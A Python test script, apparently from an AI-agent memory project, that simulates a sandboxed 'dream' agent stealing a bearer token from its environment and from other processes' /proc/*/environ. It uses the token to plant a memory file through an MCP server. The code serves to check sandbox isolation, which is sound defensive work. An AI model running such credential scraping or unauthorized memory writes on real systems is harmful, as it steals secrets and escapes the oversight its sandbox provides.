"""A dream agent that tries to write another memory through a `git memory mcp --http`
server on loopback, past its own worktree and merge (issue 24, items 1 and 11).

argv: URL [AGENT] — the server, and the agent to name with `--root` (none: the
server's own memory). The bearer token, if any, is taken from wherever the agent can
find it: its environment, then every /proc/*/environ it can read. It prints
FOUND_TOKEN/NO_TOKEN, then CONNECTED/REFUSED <why>, then the server's answer."""
from __future__ import annotations

import glob
import json
import os
import sys
import urllib.error
import urllib.request

URL = sys.argv[1]
AGENT = sys.argv[2] if len(sys.argv) > 2 else None
NAME = "GIT_MEMORY_MCP_TOKEN"


def stolen_token() -> str | None:
    if os.environ.get(NAME):
        return os.environ[NAME]
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as fh:
                for entry in fh.read().split(b"\0"):
                    if entry.startswith(NAME.encode() + b"="):
                        return entry.split(b"=", 1)[1].decode()
        except OSError:
            continue
    return None


def post(body: dict, session: str | None, token: str | None) -> tuple[dict | None, str | None]:
    headers = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"}
    if session:
        headers["Mcp-Session-Id"] = session
    if token:
        headers["Authorization"] = f"Bearer {token}"
    request = urllib.request.Request(URL, data=json.dumps(body).encode(), method="POST", headers=headers)
    with urllib.request.urlopen(request, timeout=30) as answer:
        text = answer.read().decode("utf-8", "replace")
        session = answer.headers.get("Mcp-Session-Id") or session
    for line in text.splitlines():  # an SSE stream, or plain JSON
        if line.startswith("data:"):
            return json.loads(line[5:]), session
    return (json.loads(text) if text.strip() else None), session


token = stolen_token()
print("FOUND_TOKEN" if token else "NO_TOKEN", flush=True)
try:
    init, session = post({"jsonrpc": "2.0", "id": 1, "method": "initialize",
                          "params": {"protocolVersion": "2025-06-18", "capabilities": {},
                                     "clientInfo": {"name": "dream-attack", "version": "1"}}}, None, token)
    print("CONNECTED", flush=True)
    post({"jsonrpc": "2.0", "method": "notifications/initialized"}, session, token)
    args = {"path": "notes/planted.md", "description": "planted by a dream",
            "file_text": "written from inside a dream sandbox\n", "reason": "a dream reached past its merge"}
    if AGENT:
        args["agent"] = AGENT
    answer, _ = post({"jsonrpc": "2.0", "id": 2, "method": "tools/call",
                      "params": {"name": "create", "arguments": args}}, session, token)
    print("ANSWER", json.dumps(answer)[:400], flush=True)
except urllib.error.HTTPError as exc:
    print(f"CONNECTED but HTTP {exc.code}", flush=True)
except OSError as exc:
    reason = getattr(exc, "reason", exc)
    print(f"REFUSED {reason}", flush=True)
